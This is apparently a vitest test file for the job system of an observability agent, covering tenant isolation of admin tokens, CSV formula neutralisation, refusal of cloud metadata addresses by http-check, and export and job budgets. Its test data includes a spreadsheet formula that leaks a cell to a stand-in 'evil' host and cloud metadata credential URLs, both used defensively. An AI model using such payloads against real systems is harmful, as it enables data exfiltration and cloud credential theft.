/**
 * What jobs may reach, end to end: a tenant-bound admin token is held to its tenant (exports of its
 * own rows, nothing that acts on every tenant), CSV exports cannot carry spreadsheet formulas, and
 * http-check refuses link-local and cloud metadata addresses unless the config allows them.
 */
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import type { JsonObject } from '@bufbuild/protobuf';
import { status } from '@grpc/grpc-js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { connect } from '../../src/cli/client.js';
import { EventService, Severity } from '../../src/gen/heimdall/v1/events_pb.js';
import { JobService, JobStatus, type Job } from '../../src/gen/heimdall/v1/jobs_pb.js';
import { SecurityService } from '../../src/gen/heimdall/v1/security_pb.js';
import { SystemService } from '../../src/gen/heimdall/v1/system_pb.js';
import { TraceService } from '../../src/gen/opentelemetry/proto/collector/trace/v1/trace_service_pb.js';
import { startTestAgent, type TestAgent } from '../support/agent.js';
import { traceRequest } from '../support/otlp-requests.js';
import { tempDir } from '../support/temp.js';
import { refused, until } from '../support/wait.js';

const TOKENS = {
  adminA: 'admin-token-tenant-a-00001',
  admin: 'admin-token-all-tenants-01',
  ingestA: 'ingest-token-tenant-a-0001',
  ingestB: 'ingest-token-tenant-b-0001',
};

describe('job guards', () => {
  const exports = tempDir();
  let t: TestAgent;
  const client = (token: string) => connect({ addr: t.grpcAddress, token });
  /** Submits a job and waits for its end. */
  const finished = async (token: string, kind: string, params: JsonObject): Promise<Job> => {
    const { job } = await client(token).unary(JobService.method.submitJob, { kind, params });
    return until(async () => {
      const j = (await client(token).unary(JobService.method.getJob, { id: job?.id ?? '' })).job;
      return j && j.status !== JobStatus.PENDING && j.status !== JobStatus.RUNNING ? j : undefined;
    }, 30_000, `the ${kind} job`);
  };

  beforeAll(async () => {
    t = await startTestAgent({
      jobs: { export_dir: exports.path, system_check: { enabled: false }, http_check: { allowed_networks: ['169.254.169.254/32'] } },
      auth: {
        enabled: true,
        tokens: [
          { name: 'admin-a', token: TOKENS.adminA, scopes: ['admin'], tenant: 'a' },
          { name: 'admin', token: TOKENS.admin, scopes: ['admin'] },
          { name: 'ingest-a', token: TOKENS.ingestA, scopes: ['ingest'], tenant: 'a' },
          { name: 'ingest-b', token: TOKENS.ingestB, scopes: ['ingest'], tenant: 'b' },
        ],
      },
    });
    const events = (n: number, source: string) => Array.from({ length: n }, (_, i) => ({ eventType: 'guard.test', source, severity: Severity.INFO, message: `${source} ${i}` }));
    await client(TOKENS.ingestA).unary(EventService.method.writeEvents, { events: events(3, 'src-a') });
    await client(TOKENS.ingestB).unary(EventService.method.writeEvents, { events: events(4, 'src-b') });
    await client(TOKENS.ingestA).unary(TraceService.method.export, traceRequest('svc-a', 2));
    await client(TOKENS.ingestB).unary(TraceService.method.export, traceRequest('svc-b', 5));
  });
  afterAll(async () => {
    await t.stop();
    exports.cleanup();
  });

  it("holds a tenant-bound admin token's exports to its tenant's rows", async () => {
    const events = await finished(TOKENS.adminA, 'export', { source: 'events', file: 'a-events.jsonl', since: '1h' });
    expect(events.status).toBe(JobStatus.SUCCEEDED);
    expect(events.params?.tenant).toBe('a');
    const rows = readFileSync(join(exports.path, 'tenant=a', 'a-events.jsonl'), 'utf8').trimEnd().split('\n').map((l) => JSON.parse(l) as { tenant_id: string; source: string });
    expect(rows.map((r) => r.source).sort()).toEqual(['src-a', 'src-a', 'src-a']);
    expect(new Set(rows.map((r) => r.tenant_id))).toEqual(new Set(['a']));
    const spans = await finished(TOKENS.adminA, 'export', { source: 'spans', file: 'a-spans.jsonl', since: '1h' });
    expect(spans.result?.rows).toBe(2);
    expect(readFileSync(join(exports.path, 'tenant=a', 'a-spans.jsonl'), 'utf8')).not.toContain('svc-b');
    // A token without a tenant exports every tenant, or the one it names.
    expect((await finished(TOKENS.admin, 'export', { source: 'spans', file: 'all-spans.jsonl', since: '1h' })).result?.rows).toBe(7);
    expect((await finished(TOKENS.admin, 'export', { source: 'spans', file: 'b-spans.jsonl', since: '1h', tenant: 'b' })).result?.rows).toBe(5);
  });

  it('refuses a tenant-bound admin token everything that acts on every tenant, and hides other jobs from it', async () => {
    const a = client(TOKENS.adminA);
    const denied = async (p: Promise<unknown>, what: RegExp) => {
      const err = await refused(p);
      expect(err.code).toBe(status.PERMISSION_DENIED);
      expect(err.details).toMatch(what);
    };
    await denied(a.unary(JobService.method.submitJob, { kind: 'export', params: { source: 'events', tenant: 'b' } }), /^job\.params\.tenant: token "admin-a" is bound to tenant "a"/);
    for (const kind of ['retention', 'http-check', 'system-check']) {
      await denied(a.unary(JobService.method.submitJob, { kind, params: { url: 'http://127.0.0.1:9/' } }), new RegExp(`job kind "${kind}" acts on every tenant`));
    }
    await denied(a.unary(JobService.method.createScheduledJob, { job: { name: 'x', schedule: '* * * * *', kind: 'export', params: { source: 'events' } } }), /a scheduled job acts on every tenant/);
    await denied(a.unary(JobService.method.listScheduledJobs, {}), /a scheduled job acts on every tenant/);
    await denied(a.unary(JobService.method.listJobs, {}), /listing jobs acts on every tenant/);
    await denied(a.unary(JobService.method.listRuns, {}), /listing runs acts on every tenant/);
    await denied(a.unary(SystemService.method.getStatus, {}), /token "admin-a" is bound to tenant "a", and this call acts on every tenant/);
    await denied(a.unary(SecurityService.method.getState, {}), /is bound to tenant "a"/);
    expect((await fetch(`${t.adminUrl}/status`, { headers: { authorization: `Bearer ${TOKENS.adminA}` } })).status).toBe(403);
    // Another tenant's (or an untenanted) job does not exist for this token.
    const other = await finished(TOKENS.admin, 'export', { source: 'events', file: 'other.jsonl', since: '1h' });
    for (const call of [a.unary(JobService.method.getJob, { id: other.id }), a.unary(JobService.method.cancelJob, { id: other.id })]) {
      const err = await refused(call);
      expect(err.code).toBe(status.NOT_FOUND);
    }
    // Its own jobs it can follow; the untenanted admin token sees everything.
    const own = await finished(TOKENS.adminA, 'export', { source: 'events', file: 'own.jsonl', since: '1h' });
    expect((await a.unary(JobService.method.getJob, { id: own.id })).job?.id).toBe(own.id);
    expect((await client(TOKENS.admin).unary(JobService.method.getJob, { id: own.id })).job?.params?.tenant).toBe('a');
  });

  it('neutralises CSV cells that a spreadsheet would run as formulas', async () => {
    const cells = ['=HYPERLINK("http://evil/?"&A1,"x")', '+SUM(1,2)', '-2+3', '@SUM(1)', '\tTAB', '\rCR', '-5', 'plain'];
    await client(TOKENS.ingestA).unary(EventService.method.writeEvents, { events: cells.map((message) => ({ eventType: 'csv.test', source: 'csv-src', severity: Severity.INFO, message })) });
    const job = await finished(TOKENS.admin, 'export', { source: 'events', format: 'csv', file: 'cells.csv', since: '1h', filters: { event_type: 'csv.test' } });
    expect(job.status).toBe(JobStatus.SUCCEEDED);
    const text = readFileSync(join(exports.path, 'cells.csv'), 'utf8');
    for (const expected of ['"\'=HYPERLINK(""http://evil/?""&A1,""x"")"', '"\'+SUM(1,2)"', '"\'-2+3"', '"\'@SUM(1)"', '"\'\tTAB"', '"\'\rCR"', ',-5,', ',plain,', ',csv-src,']) expect(text).toContain(expected);
    // No line has a cell that starts with a formula character unquoted.
    expect(text).not.toMatch(/(^|,)[=+@]/m);
  });

  it('refuses http-check probes of link-local and metadata addresses, unless jobs.http_check.allowed_networks lets them', async () => {
    for (const url of ['http://169.254.170.2/v2/credentials', 'http://[fd00:ec2::254]/latest/meta-data/', 'http://metadata.google.internal/computeMetadata/v1/']) {
      const run = await finished(TOKENS.admin, 'http-check', { url, timeout: '2s' });
      expect(run.status).toBe(JobStatus.FAILED);
      expect(run.error).toMatch(/refused: .* (link-local or cloud metadata address|cloud metadata service)/);
    }
    expect(await t.agent.metrics.getSingleMetricAsString('heimdall_http_check_refused_total')).toMatch(/heimdall_http_check_refused_total\{job_name="\(on-demand\)"\} 3$/m);
    // Allowed in the config: the probe is attempted (whatever answers, or not, it is not refused).
    const allowed = await finished(TOKENS.admin, 'http-check', { url: 'http://169.254.169.254/latest/meta-data/', timeout: '300ms' });
    expect(allowed.error).not.toContain('refused');
  });
});

describe('the export directory budget', () => {
  const exports = tempDir();
  let t: TestAgent;
  beforeAll(async () => {
    t = await startTestAgent({ jobs: { export_dir: exports.path, export_max_size: '4KiB', system_check: { enabled: false } } });
  });
  afterAll(async () => {
    await t.stop();
    exports.cleanup();
  });

  it('fails an export that would pass jobs.export_max_size, leaving no file, and lets one that fits through', async () => {
    const c = connect({ addr: t.grpcAddress });
    await c.unary(EventService.method.writeEvents, { events: Array.from({ length: 200 }, (_, i) => ({ eventType: i < 5 ? 'small' : 'big', source: 'budget', severity: Severity.INFO, message: `event number ${i} with some text to take room` })) });
    const run = async (params: JsonObject): Promise<Job> => {
      const { job } = await c.unary(JobService.method.submitJob, { kind: 'export', params });
      return until(async () => {
        const j = (await c.unary(JobService.method.getJob, { id: job?.id ?? '' })).job;
        return j && j.status !== JobStatus.PENDING && j.status !== JobStatus.RUNNING ? j : undefined;
      }, 30_000, 'the export');
    };
    const big = await run({ source: 'events', file: 'big.jsonl', since: '1h', chunk_rows: 100 });
    expect(big.status).toBe(JobStatus.FAILED);
    expect(big.error).toMatch(/^the export directory would pass jobs\.export_max_size \(4096 bytes: \d+ used, \d+ more needed\): remove old exports/);
    expect(readdirSync(exports.path)).toEqual([]);
    expect(await (await fetch(`${t.adminUrl}/metrics`)).text()).toMatch(/^heimdall_export_refused_total\{limit="export_max_size"\} [1-9]/m);
    const small = await run({ source: 'events', file: 'small.jsonl', since: '1h', filters: { event_type: 'small' } });
    expect(small.status).toBe(JobStatus.SUCCEEDED);
    expect(readdirSync(exports.path)).toEqual(['small.jsonl']);
    c.close();
  });
});

describe("a tenant-bound token's jobs", () => {
  const exports = tempDir();
  const T = { a: 'admin-token-tenant-a-00001', b: 'admin-token-tenant-b-00001', admin: 'admin-token-all-tenants-01', ingestA: 'ingest-token-tenant-a-0001', ingestB: 'ingest-token-tenant-b-0001' };
  let t: TestAgent;
  // A server that never answers: an http-check against it holds the one job slot as long as it is asked to.
  let silent: Server;
  const client = (token: string) => connect({ addr: t.grpcAddress, token });
  const job = async (token: string, id: string): Promise<Job | undefined> => (await client(token).unary(JobService.method.getJob, { id })).job;
  const ended = (token: string, id: string): Promise<Job> => until(async () => {
    const j = await job(token, id);
    return j && j.status !== JobStatus.PENDING && j.status !== JobStatus.RUNNING ? j : undefined;
  }, 30_000, 'the job to end');
  const submit = async (token: string, params: JsonObject, timeout?: bigint): Promise<Job> => {
    const { job: j } = await client(token).unary(JobService.method.submitJob, { kind: 'export', params, ...(timeout ? { timeout: { seconds: timeout } } : {}) });
    if (!j) throw new Error('no job');
    return j;
  };
  const metric = async (name: string) => (await t.agent.metrics.getSingleMetricAsString(name));

  beforeAll(async () => {
    silent = createServer(() => undefined);
    await new Promise<void>((resolve) => silent.listen(0, '127.0.0.1', resolve));
    t = await startTestAgent({
      jobs: { export_dir: exports.path, system_check: { enabled: false }, max_concurrent: 1, max_submitted_per_tenant: 2, tenant_max_timeout: '30m', tenant_export_max_size: '4KiB', export_max_size: '1MiB' },
      query: { max_window: '2d', default_window: '1h', summary_window: '1d' },
      auth: {
        enabled: true,
        tokens: [
          { name: 'admin-a', token: T.a, scopes: ['admin'], tenant: 'a' },
          { name: 'admin-b', token: T.b, scopes: ['admin'], tenant: 'b' },
          { name: 'admin', token: T.admin, scopes: ['admin'] },
          { name: 'ingest-a', token: T.ingestA, scopes: ['ingest'], tenant: 'a' },
          { name: 'ingest-b', token: T.ingestB, scopes: ['ingest'], tenant: 'b' },
        ],
      },
    });
    const events = (n: number, source: string) => Array.from({ length: n }, (_, i) => ({ eventType: 'tenant.test', source, severity: Severity.INFO, message: `${source} event ${i}` }));
    await client(T.ingestA).unary(EventService.method.writeEvents, { events: events(3, 'src-a') });
    await client(T.ingestB).unary(EventService.method.writeEvents, { events: events(2, 'src-b') });
  });
  afterAll(async () => {
    await t.stop();
    silent.closeAllConnections();
    silent.close();
    exports.cleanup();
  });

  it('refuses an export wider than query.max_window, and a timeout past jobs.tenant_max_timeout, naming them', async () => {
    const allTime = await refused(submit(T.a, { source: 'events', start: '1970-01-01T00:00:00Z', chunk_rows: 100 }));
    expect(allTime.code).toBe(status.INVALID_ARGUMENT);
    expect(allTime.details).toMatch(/^job\.params\.start: the window is at most 2d \(query\.max_window\), got \d+\.\dd; export several narrower windows$/);
    // Also for a token without a tenant: every export reads through the query budgets.
    const week = await refused(submit(T.admin, { source: 'spans', since: '7d' }));
    expect(week.details).toMatch(/^job\.params\.since: the window is at most 2d \(query\.max_window\), got 7\.0d/);
    const scheduled = await refused(client(T.admin).unary(JobService.method.createScheduledJob, { job: { name: 'weekly', schedule: '0 3 * * 1', kind: 'export', params: { source: 'events', since: '7d' } } }));
    expect(scheduled.code).toBe(status.INVALID_ARGUMENT);
    expect(scheduled.details).toMatch(/^job\.params\.since: the window is at most 2d \(query\.max_window\)/);
    const long = await refused(submit(T.a, { source: 'events', since: '1h' }, 86_400n * 20n));
    expect(long.code).toBe(status.INVALID_ARGUMENT);
    expect(long.details).toBe('job.timeout: at most 30m for a token bound to a tenant (jobs.tenant_max_timeout), got 20d');
    const refusals = await metric('heimdall_job_submit_refused_total');
    expect(refusals).toMatch(/\{limit="max_window"\} 2$/m);
    expect(refusals).toMatch(/\{limit="tenant_max_timeout"\} 1$/m);
  });

  it('caps the jobs one tenant has pending or running, so other tenants still get in', async () => {
    const { job: busy } = await client(T.admin).unary(JobService.method.submitJob, { kind: 'http-check', params: { url: `http://127.0.0.1:${(silent.address() as { port: number }).port}/`, timeout: '120s' } });
    await until(async () => (await job(T.admin, busy?.id ?? ''))?.status === JobStatus.RUNNING, 15_000, 'the slot to be taken');
    // Exports that find no rows: they leave empty files only.
    const none = { source: 'events', since: '1h', filters: { event_type: 'none' } };
    const pending = [await submit(T.a, none), await submit(T.a, none)];
    const third = await refused(submit(T.a, none));
    expect(third.code).toBe(status.RESOURCE_EXHAUSTED);
    expect(third.details).toBe('tenant "a" has 2 jobs pending or running (jobs.max_submitted_per_tenant 2); retry when one has ended');
    const other = await submit(T.b, none);
    expect(other.status).toBe(JobStatus.PENDING);
    expect(await metric('heimdall_job_submit_refused_total')).toMatch(/\{limit="max_submitted_per_tenant"\} 1$/m);
    // Once the slot is free the queue drains, and tenant a may submit again.
    await client(T.admin).unary(JobService.method.cancelJob, { id: busy?.id ?? '' });
    for (const j of [...pending, other]) expect((await ended(T.admin, j.id)).status).toBe(JobStatus.SUCCEEDED);
    expect((await ended(T.a, (await submit(T.a, none)).id)).status).toBe(JobStatus.SUCCEEDED);
  });

  it("writes a tenant's exports in its own folder, under its own share of the export budget", async () => {
    const a = await ended(T.a, (await submit(T.a, { source: 'events', since: '1h', file: 'report.jsonl' })).id);
    const b = await ended(T.b, (await submit(T.b, { source: 'events', since: '1h', file: 'report.jsonl' })).id);
    expect(a.result?.file).toBe(join(exports.path, 'tenant=a', 'report.jsonl'));
    expect(b.result?.file).toBe(join(exports.path, 'tenant=b', 'report.jsonl'));
    // Before, both wrote <export_dir>/report.jsonl, the last to finish replacing the other's.
    const sources = (tenant: string) => readFileSync(join(exports.path, `tenant=${tenant}`, 'report.jsonl'), 'utf8').trimEnd().split('\n').map((l) => (JSON.parse(l) as { source: string }).source);
    expect(sources('a')).toEqual(['src-a', 'src-a', 'src-a']);
    expect(sources('b')).toEqual(['src-b', 'src-b']);
    // Tenant a's share is 4 KiB: an export that would pass it fails and leaves no file; the directory's budget is untouched.
    await client(T.ingestA).unary(EventService.method.writeEvents, { events: Array.from({ length: 100 }, (_, i) => ({ eventType: 'big', source: 'src-a', severity: Severity.INFO, message: `a longer message to take some room, number ${i}` })) });
    const big = await ended(T.a, (await submit(T.a, { source: 'events', since: '1h', file: 'big.jsonl', chunk_rows: 100 })).id);
    expect(big.status).toBe(JobStatus.FAILED);
    expect(big.error).toMatch(/^the export folder of tenant "a" would pass jobs\.tenant_export_max_size \(4096 bytes: \d+ used, \d+ more needed\)/);
    expect(readdirSync(join(exports.path, 'tenant=a')).filter((f) => f.startsWith('big'))).toEqual([]);
    expect(await metric('heimdall_export_refused_total')).toMatch(/\{limit="tenant_export_max_size"\} 1$/m);
    const all = await ended(T.admin, (await submit(T.admin, { source: 'events', since: '1h', file: 'big.jsonl' })).id);
    expect(all.status).toBe(JobStatus.SUCCEEDED);
    expect(existsSync(join(exports.path, 'big.jsonl'))).toBe(true);
  });
});

